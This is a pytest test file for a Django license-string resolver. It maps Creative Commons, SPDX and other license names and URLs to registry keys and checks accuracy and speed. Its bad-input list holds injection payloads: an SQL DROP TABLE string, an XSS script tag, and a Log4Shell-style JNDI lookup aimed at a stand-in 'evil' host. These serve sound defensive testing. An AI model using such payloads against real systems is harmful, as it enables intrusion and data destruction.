"""The resolver over every real license string in ../shared/data, plus bad input."""

from __future__ import annotations

import re
import time

import pytest

from catalog.licenses.resolver import AMBIGUOUS, EXACT, INFERRED, resolve

from .real_strings import all_license_strings, oer_commons_rows

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("loaded_registry")]

# Every distinct string in ../shared/data → (registry key or None, confidence).
REAL = {
    # OER Commons LICENSE_TITLE codes: no version, so the family with "version unknown".
    "cc-by": ("CC-BY", INFERRED),
    "cc-by-nc": ("CC-BY-NC", INFERRED),
    "cc-by-nc-nd": ("CC-BY-NC-ND", INFERRED),
    "cc-by-nc-sa": ("CC-BY-NC-SA", INFERRED),
    "cc-by-nd": ("CC-BY-ND", INFERRED),
    "cc-by-sa": ("CC-BY-SA", INFERRED),
    "cc-mark": ("CC-PDM-1.0", EXACT),
    "public-domain": ("LicenseRef-Public-Domain", INFERRED),
    # OER Commons LICENSE_URL.
    "http://creativecommons.org/licenses/by-nc-nd/2.5/in/": ("CC-BY-NC-ND-2.5-IN", EXACT),
    "http://creativecommons.org/licenses/by-nc-nd/3.0/us/": ("CC-BY-NC-ND-3.0-US", EXACT),
    "http://creativecommons.org/licenses/by-nc-nd/4.0/": ("CC-BY-NC-ND-4.0", EXACT),
    "http://creativecommons.org/licenses/by-nc-sa/2.5/in/": ("CC-BY-NC-SA-2.5-IN", EXACT),
    "http://creativecommons.org/licenses/by-nc-sa/3.0/us/": ("CC-BY-NC-SA-3.0-US", EXACT),
    "http://creativecommons.org/licenses/by-nc-sa/4.0/": ("CC-BY-NC-SA-4.0", EXACT),
    "http://creativecommons.org/licenses/by-nc/2.0/uk/": ("CC-BY-NC-2.0-UK", EXACT),
    "http://creativecommons.org/licenses/by-nc/2.5/ca/": ("CC-BY-NC-2.5-CA", EXACT),
    "http://creativecommons.org/licenses/by-nc/2.5/in/": ("CC-BY-NC-2.5-IN", EXACT),
    "http://creativecommons.org/licenses/by-nc/2.5/se/": ("CC-BY-NC-2.5-SE", EXACT),
    "http://creativecommons.org/licenses/by-nc/3.0/us/": ("CC-BY-NC-3.0-US", EXACT),
    "http://creativecommons.org/licenses/by-nc/4.0/": ("CC-BY-NC-4.0", EXACT),
    "http://creativecommons.org/licenses/by-nd/3.0/us/": ("CC-BY-ND-3.0-US", EXACT),
    "http://creativecommons.org/licenses/by-nd/4.0/": ("CC-BY-ND-4.0", EXACT),
    "http://creativecommons.org/licenses/by-sa/2.0/be/": ("CC-BY-SA-2.0-BE", EXACT),
    "http://creativecommons.org/licenses/by-sa/4.0/": ("CC-BY-SA-4.0", EXACT),
    "http://creativecommons.org/licenses/by/2.5/in/": ("CC-BY-2.5-IN", EXACT),
    "http://creativecommons.org/licenses/by/2.5/za/": ("CC-BY-2.5-ZA", EXACT),
    "http://creativecommons.org/licenses/by/3.0/us/": ("CC-BY-3.0-US", EXACT),
    "http://creativecommons.org/licenses/by/4.0/": ("CC-BY-4.0", EXACT),
    "https://creativecommons.org/licenses/by-nc-nd/4.0": ("CC-BY-NC-ND-4.0", EXACT),
    "https://creativecommons.org/licenses/by-nc-nd/4.0/": ("CC-BY-NC-ND-4.0", EXACT),
    "https://creativecommons.org/licenses/by-nc-sa/4.0/": ("CC-BY-NC-SA-4.0", EXACT),
    "https://creativecommons.org/licenses/by-nc/4.0": ("CC-BY-NC-4.0", EXACT),
    "https://creativecommons.org/licenses/by-nc/4.0/": ("CC-BY-NC-4.0", EXACT),
    "https://creativecommons.org/licenses/by-nd/4.0": ("CC-BY-ND-4.0", EXACT),
    "https://creativecommons.org/licenses/by-nd/4.0/": ("CC-BY-ND-4.0", EXACT),
    "https://creativecommons.org/licenses/by-sa/4.0": ("CC-BY-SA-4.0", EXACT),
    "https://creativecommons.org/licenses/by-sa/4.0/": ("CC-BY-SA-4.0", EXACT),
    "https://creativecommons.org/licenses/by/4.0": ("CC-BY-4.0", EXACT),
    "https://creativecommons.org/licenses/by/4.0/": ("CC-BY-4.0", EXACT),
    "https://creativecommons.org/publicdomain/mark/1.0/": ("CC-PDM-1.0", EXACT),
    # Zenodo OAI-PMH dc:rights / datacite rights.
    "https://creativecommons.org/licenses/by/4.0/legalcode": ("CC-BY-4.0", EXACT),
    "https://creativecommons.org/licenses/by/1.0/legalcode": ("CC-BY-1.0", EXACT),
    "https://creativecommons.org/licenses/by-nc/4.0/legalcode": ("CC-BY-NC-4.0", EXACT),
    "https://creativecommons.org/licenses/by-nc-sa/4.0/legalcode": ("CC-BY-NC-SA-4.0", EXACT),
    "https://creativecommons.org/publicdomain/zero/1.0/legalcode": ("CC0-1.0", EXACT),
    "Creative Commons Attribution 4.0 International": ("CC-BY-4.0", EXACT),
    "Creative Commons Attribution 1.0 Generic": ("CC-BY-1.0", EXACT),
    "Creative Commons Attribution Non Commercial 4.0 International": ("CC-BY-NC-4.0", EXACT),
    "Creative Commons Attribution Non Commercial Share Alike 4.0 International": (
        "CC-BY-NC-SA-4.0",
        EXACT,
    ),
    "Creative Commons Zero v1.0 Universal": ("CC0-1.0", EXACT),
    "https://opensource.org/licenses/MIT": ("MIT", EXACT),
    "MIT License": ("MIT", EXACT),
    "http://www.apache.org/licenses/LICENSE-2.0": ("Apache-2.0", EXACT),
    "Apache License 2.0": ("Apache-2.0", EXACT),
    "BSD 3-Clause Clear License": ("BSD-3-Clause-Clear", EXACT),
    "http://labs.metacarta.com/license-explanation.html#license": ("BSD-3-Clause-Clear", EXACT),
    "Other (Not Open)": ("LicenseRef-All-Rights-Reserved", INFERRED),
    "Copeland Resonant Harmonic Formalism (CRHC v1.0)": (None, None),
    "info:eu-repo/semantics/openAccess": (None, None),
    "info:eu-repo/semantics/restrictedAccess": (None, None),
    "info:eu-repo/semantics/embargoedAccess": (None, None),
    # OpenStax, LRMI, AMB.
    "Creative Commons Attribution License": ("CC-BY", INFERRED),
    "https://creativecommons.org/licenses/by-sa/3.0/": ("CC-BY-SA-3.0", EXACT),
    "https://creativecommons.org/publicdomain/zero/1.0/": ("CC0-1.0", EXACT),
    "http://www.gnu.org/licenses/agpl-3.0": ("AGPL-3.0-only", EXACT),
    "https://opensource.org/licenses/MPL-2.0": ("MPL-2.0", EXACT),
    # Kolibri (le-utils) names and URLs.
    "CC BY": ("CC-BY", INFERRED),
    "CC BY-SA": ("CC-BY-SA", INFERRED),
    "CC BY-ND": ("CC-BY-ND", INFERRED),
    "CC BY-NC": ("CC-BY-NC", INFERRED),
    "CC BY-NC-SA": ("CC-BY-NC-SA", INFERRED),
    "CC BY-NC-ND": ("CC-BY-NC-ND", INFERRED),
    "All Rights Reserved": ("LicenseRef-All-Rights-Reserved", INFERRED),
    "http://www.allrights-reserved.com/": ("LicenseRef-All-Rights-Reserved", EXACT),
    "Public Domain": ("LicenseRef-Public-Domain", INFERRED),
    "Special Permissions": ("LicenseRef-Custom-Terms", INFERRED),
}

# Spellings seen in the wild beyond ../shared/data.
VARIANTS = {
    "HTTPS://WWW.CreativeCommons.org/licenses/by-nc-sa/4.0/deed.es": ("CC-BY-NC-SA-4.0", EXACT),
    "creativecommons.org/licenses/by/4.0/deed.en_US": ("CC-BY-4.0", EXACT),
    "//creativecommons.org/licenses/by-sa/4.0/legalcode.de": ("CC-BY-SA-4.0", EXACT),
    "https://creativecommons.org/licenses/by/3.0/igo/": ("CC-BY-3.0-IGO", EXACT),
    "http://creativecommons.org/licenses/by-nd-nc/1.0/": ("CC-BY-NC-ND-1.0", EXACT),
    "http://creativecommons.org/licenses/by-nd-nc/2.0/jp/": ("CC-BY-NC-ND-2.0-JP", EXACT),
    "https://creativecommons.org/licenses/by/4.0/?ref=chooser-v1": ("CC-BY-4.0", EXACT),
    "https://creativecommons.org/licenses/by-sa/": ("CC-BY-SA", INFERRED),
    "https://creativecommons.org/licenses/by/9.9/": (None, None),
    "https://spdx.org/licenses/CC-BY-SA-4.0.html": ("CC-BY-SA-4.0", EXACT),
    "CC BY-NC-SA 4.0": ("CC-BY-NC-SA-4.0", EXACT),
    "cc by 4.0": ("CC-BY-4.0", EXACT),
    "CC-BY-SA-3.0-DE": ("CC-BY-SA-3.0-DE", EXACT),
    "cc-by-sa-4.0": ("CC-BY-SA-4.0", EXACT),
    "CC BY 3.0 IGO": ("CC-BY-3.0-IGO", EXACT),
    "Attribution-NonCommercial-ShareAlike": ("CC-BY-NC-SA", INFERRED),
    "Attribution-NonCommercial-ShareAlike 4.0 International": ("CC-BY-NC-SA-4.0", EXACT),
    "Creative Commons Attribution 3.0 Unported": ("CC-BY-3.0", EXACT),
    "Creative Commons Attribution-ShareAlike 3.0 United States": ("CC-BY-SA-3.0-US", EXACT),
    "This work is licensed under a Creative Commons Attribution-NonCommercial-ShareAlike 4.0"
    " International License.": (
        "CC-BY-NC-SA-4.0",
        EXACT,
    ),
    "Licensed CC BY 4.0 https://creativecommons.org/licenses/by/4.0/": ("CC-BY-4.0", EXACT),
    "CC0": ("CC0-1.0", EXACT),
    "cc0-1.0": ("CC0-1.0", EXACT),
    "US Government work": ("LicenseRef-US-Government-Work", INFERRED),
    "GPL-3.0-only": ("GPL-3.0-only", EXACT),
    "https://www.gnu.org/licenses/fdl-1.3.html": ("GFDL-1.3-only", EXACT),
    "cc by-nc-nd 3.0 us": ("CC-BY-NC-ND-3.0-US", EXACT),
    "CC-BY-SA 2.0 UK": ("CC-BY-SA-2.0-UK", EXACT),
    "Creative Commons Attribution-ShareAlike 2.0 England & Wales": ("CC-BY-SA-2.0-UK", EXACT),
    "CC BY-SA 2.5 Scotland": ("CC-BY-SA-2.5-SCOTLAND", EXACT),
    "CC BY-SA 3.0 Germany": ("CC-BY-SA-3.0-DE", EXACT),
    "Attribution 4.0 International (CC BY 4.0)": ("CC-BY-4.0", EXACT),
    "Creative Commons Attribution-NonCommercial-NoDerivs 3.0 Unported License": (
        "CC-BY-NC-ND-3.0",
        EXACT,
    ),
    "by-nc-sa": ("CC-BY-NC-SA", INFERRED),
    "Licensed by Creative Commons": (None, None),
    "This resource is licensed by the author": (None, None),
    "Apache License, Version 2.0": ("Apache-2.0", EXACT),
    "GPLv3": ("GPL-3.0-only", INFERRED),
    "ODbL": ("ODbL-1.0", EXACT),
    "BSD": (None, AMBIGUOUS),
    "Namensnennung 4.0 International": (None, None),
    "© 2020 Foo. All rights reserved.": ("LicenseRef-All-Rights-Reserved", INFERRED),
    "CC BY 4.0 or CC BY-SA 4.0": (None, AMBIGUOUS),
    "CC BY-NC https://creativecommons.org/licenses/by/4.0/": (None, AMBIGUOUS),
    "CC BY-ND-SA": (None, AMBIGUOUS),
    "CC BY 3.0 / 4.0": (None, AMBIGUOUS),
    "https://creativecommons.org/licenses/by/4.0/"
    " https://creativecommons.org/licenses/by-sa/4.0/": (
        None,
        AMBIGUOUS,
    ),
}


def _check(raw, expected):
    key, confidence = expected
    res = resolve(raw)
    assert (res.license.key if res.license else None, res.confidence) == (key, confidence), (
        res.reason
    )
    assert res.reason and len(res.reason) < 300


@pytest.mark.parametrize("raw", sorted(REAL))
def test_real_strings(raw):
    _check(raw, REAL[raw])


@pytest.mark.parametrize("raw", sorted(VARIANTS))
def test_variants(raw):
    _check(raw, VARIANTS[raw])


def test_the_table_covers_every_string_in_shared_data(shared_data):
    missing = all_license_strings(shared_data) - set(REAL)
    # the ERIM copyright statement is long; it is checked on its own below
    missing = {s for s in missing if not s.startswith("Copyright 2001")}
    assert not missing, f"add these to REAL: {sorted(missing)}"


def test_copyright_statement_is_all_rights_reserved(shared_data):
    erim = next(s for s in all_license_strings(shared_data) if s.startswith("Copyright 2001"))
    res = resolve(erim)
    assert (res.license.key, res.confidence) == ("LicenseRef-All-Rights-Reserved", INFERRED)


_CC_URL = re.compile(
    r"creativecommons\.org/(?:licenses/([a-z-]+)/(\d\.\d)(?:/([a-z]+))?|publicdomain/(mark|zero)/1\.0)"
)


def test_oer_commons_rows_resolve_exactly_with_version_and_none_wrongly(shared_data):
    """≥ 99% of rows exact (incl. version and port); no row resolves to another license.

    A row is resolved as the harvester does: LICENSE_URL, else LICENSE_TITLE.
    The expected license is read from the URL path independently of the resolver.
    """
    rows = oer_commons_rows(shared_data)
    exact = wrong = 0
    for row in rows:
        raw = row["LICENSE_URL"].strip() or row["LICENSE_TITLE"].strip()
        res = resolve(raw)
        m = _CC_URL.search(raw)
        assert m, raw
        code, version, port, pd = m.groups()
        if res.license is None:
            continue
        lic = res.license
        if pd:
            ok = lic.key == {"mark": "CC-PDM-1.0", "zero": "CC0-1.0"}[pd]
        else:
            ok = (lic.code, lic.version, lic.jurisdiction) == (code, version, port or "")
        wrong += not ok
        exact += ok and res.confidence == EXACT
    assert wrong == 0
    assert exact / len(rows) >= 0.99, f"{exact}/{len(rows)} exact"
    assert len(rows) == 1876


def test_unversioned_is_never_silently_4_0():
    for raw in (
        "CC BY",
        "cc-by-sa",
        "Creative Commons Attribution-NonCommercial",
        "https://creativecommons.org/licenses/by-nc/",
    ):
        res = resolve(raw)
        assert res.license.version == "" and res.confidence == INFERRED
        assert "version unknown" in res.reason


BAD = [
    None,
    "",
    "   \t\n ",
    "\x00\x01\x02",
    b"\xff\xfe\x00\x81binary\x00\x9f",
    "x" * 100_000,
    "'; DROP TABLE licenses_license; --",
    "<script>alert('cc by 4.0')</script>",
    "{{ 7*7 }} ${jndi:ldap://evil/a}",
    "https://evil.example/licenses/by/4.0/",
    "\u202ecc-by\u202c",
    12345,
    ["cc-by"],
]


@pytest.mark.parametrize("raw", BAD, ids=range(len(BAD)))
def test_bad_input_gets_a_clear_answer(raw):
    res = resolve(raw)
    assert isinstance(res.reason, str) and res.reason
    assert len(res.reason) < 300
    if raw in (None, "", "   \t\n "):
        assert res.license is None and res.reason == "no license given"


def test_huge_input_is_refused_not_scanned():
    res = resolve("cc by 4.0 " * 10_000)
    assert res.license is None and "too long" in res.reason


def test_injection_strings_resolve_to_nothing():
    assert resolve("'; DROP TABLE licenses_license; --").license is None
    assert resolve("https://evil.example/licenses/by/4.0/").license is None


def test_resolve_makes_no_query_once_warm_and_is_fast(django_assert_num_queries):
    resolve("cc-by")  # warm the in-memory registry
    strings = list(REAL) + list(VARIANTS)
    with django_assert_num_queries(0):
        start = time.perf_counter()
        for _ in range(50):
            for raw in strings:
                resolve(raw)
        elapsed = time.perf_counter() - start
    assert elapsed < 2.0, f"{50 * len(strings)} resolutions took {elapsed:.2f}s"
